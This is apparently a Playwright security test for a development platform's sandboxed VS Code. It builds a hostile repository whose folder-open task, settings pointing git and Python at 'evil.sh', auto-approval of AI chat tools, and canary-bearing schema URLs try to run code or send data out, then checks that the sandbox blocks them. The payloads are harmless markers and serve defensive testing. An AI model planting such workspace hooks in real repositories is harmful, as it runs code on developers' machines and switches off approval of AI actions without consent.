import { existsSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import type { Factory } from './support/factory.ts';
import { finish, planOf, script, shell } from './support/scripts.ts';
import { expect, test } from './support/test.ts';

/** Fetched before: half a minute and a registry would be needed here otherwise. */
const here = existsSync(process.env['DEVFACTORY_IDE_DIR'] ?? '/nowhere');
const canary = 'DFCANARY_5cb1f0aa';
const userSettings = '/home/dev/.local/share/devfactory-ide/User/settings.json';

/** Stands in the sandbox as the project's server, and lays settings over a person's own where it is told to. */
const layer = `
import { copyFileSync, existsSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
setInterval(() => {
  if (!existsSync('naive.json')) return;
  copyFileSync('naive.json', '${userSettings}');
  rmSync('naive.json');
}, 100);
createServer((_, response) => response.end()).listen(Number(process.env.PORT), '127.0.0.1');
`;

/** What the repository says; the last two are heeded in a person's own settings alone. */
const theirs = {
  'chat.disableAIFeatures': false,
  'chat.tools.autoApprove': true,
  'python.defaultInterpreterPath': './evil.sh',
  'task.allowAutomaticTasks': 'on',
  'git.path': '/workspace/evil.sh',
};

/** A repository that wants to run something, and to tell somebody something, when an IDE opens it. */
async function hostile(factory: Factory, hostPort: number): Promise<string> {
  const write = (path: string, content: unknown) => ({
    tool: 'write',
    input: { path, content: typeof content === 'string' ? content : JSON.stringify(content) },
  });
  // A key that is there twice is what VS Code's JSON server complains of once it has read the file.
  const naming = (path: string) => `{ "$schema": "http://127.0.0.1:${path}?d=${canary}", "twice": 1, "twice": 2 }`;
  const tasks = {
    version: '2.0.0',
    tasks: [{ label: 'x', type: 'shell', command: 'touch TASK', runOptions: { runOn: 'folderOpen' } }],
  };
  const id = await factory.create({
    prompt: 'A repository that cannot be trusted.',
    agent: 'scripted',
    agentOptions: script({
      plan: [planOf([{ text: 'There shall be data.', path: 'data.json', includes: canary }])],
      work: [
        {
          calls: [
            write('data.json', naming(`${hostPort}/first`)),
            write('more.json', naming(`${hostPort}/second`)),
            write('server.mjs', layer),
            write('.vscode/tasks.json', tasks),
            write('.vscode/settings.json', theirs),
            write('evil.sh', '#!/bin/sh\ntouch /workspace/EVIL\nexec git "$@"\n'),
          ],
        },
        shell('chmod +x evil.sh; git init -q .; git add data.json', 'A repository of its own.'),
        { calls: [finish] },
      ],
    }),
  });
  const { plan } = await factory.until(id, ({ stage }) => stage.name === 'waiting');
  await factory.client.runs.command(id, { do: 'approve-plan', version: plan.proposed });
  await factory.until(id, ({ stage }) => stage.name === 'waiting' && stage.for === 'review');
  return id;
}

test('what a repository tells VS Code to do is not done, and is done where nothing was set against it (A17, A18, A20)', async ({
  page,
  context,
  guard,
  factory,
  needsSandbox,
}) => {
  void needsSandbox;
  test.setTimeout(300_000);
  test.skip(!here, 'no VS Code was fetched: DEVFACTORY_IDE_DIR names where one lies');
  guard.expect(/http:\/\/ide--run-[a-z2-7]{16}\.localhost:/);
  const asked: string[] = [];
  const host = createServer((request, response) => response.end(String(asked.push(request.url ?? ''))));
  await new Promise<void>((resolve) => void host.listen(0, '127.0.0.1', resolve));
  const { port } = host.address() as AddressInfo;
  try {
    const runId = await hostile(factory, port);
    const at = (path: string) => `${factory.url}/api/runs/${runId}/workspace/file?path=${encodeURIComponent(path)}`;
    const headers = { authorization: `Bearer ${factory.token}`, 'content-type': 'application/octet-stream' };
    const look = async (path: string): Promise<string | null> => {
      const answer = await fetch(at(path), { headers });
      return answer.ok ? ((await answer.json()) as { text: string }).text : null;
    };
    await factory.client.previews.start(runId);
    const ide = await openIde(page, runId);
    await ide.keyboard.press('Control+Shift+M');
    const problems = ide.locator('.markers-panel');
    await expect(problems).toContainText('Duplicate object key', { timeout: 60_000 });
    await ide.getByRole('treeitem', { name: 'more.json' }).first().dblclick();
    await expect(problems.getByText('more.json')).toBeVisible({ timeout: 30_000 });
    // By then VS Code has been through its start: its git knows the repository.
    await expect(ide.locator('.statusbar-item', { hasText: /master|main/ })).toBeVisible({ timeout: 30_000 });
    await expect(problems).not.toContainText('Unable to load schema');
    expect(await Promise.all(['TASK', 'EVIL'].map(look))).toEqual([null, null]);

    // The teeth: the same repository, where a person's own settings say yes. Then VS Code asks, and the wall around it answers.
    const naive = {
      ...theirs,
      'json.schemaDownload.enable': true,
      'json.schemaDownload.trustedDomains': { [`http://127.0.0.1:${port}`]: true },
    };
    const put = await fetch(`${at('naive.json')}&expected=none`, {
      method: 'PUT',
      headers,
      body: JSON.stringify(naive),
    });
    expect(put.status).toBe(200);
    await expect.poll(() => look('naive.json'), { timeout: 60_000 }).toBeNull();
    await ide.reload();
    await expect.poll(() => look('TASK'), { timeout: 60_000 }).toBe('');
    await expect.poll(() => look('EVIL'), { timeout: 60_000 }).toBe('');
    await ide.getByRole('tab', { name: /^Problems/ }).click();
    await expect(problems).toContainText(`egress denied: 127.0.0.1:${port}`, { timeout: 60_000 });
    expect(asked).toEqual([]);
    await fetch(`http://127.0.0.1:${port}/who`);
    expect(asked).toEqual(['/who']);
    await ide.close();
    await factory.client.previews.stop(runId);
  } finally {
    host.close();
  }

  async function openIde(console: Page, runId: string): Promise<Page> {
    await console.goto(`/runs/${runId}?view=changes&file=data.json&pane=work`);
    const opened = context.waitForEvent('page');
    await console.getByRole('button', { name: 'Open data.json in VS Code' }).click();
    const ide = await opened;
    await expect(ide.getByRole('tab', { name: /data\.json/ })).toBeVisible({ timeout: 90_000 });
    return ide;
  }
});
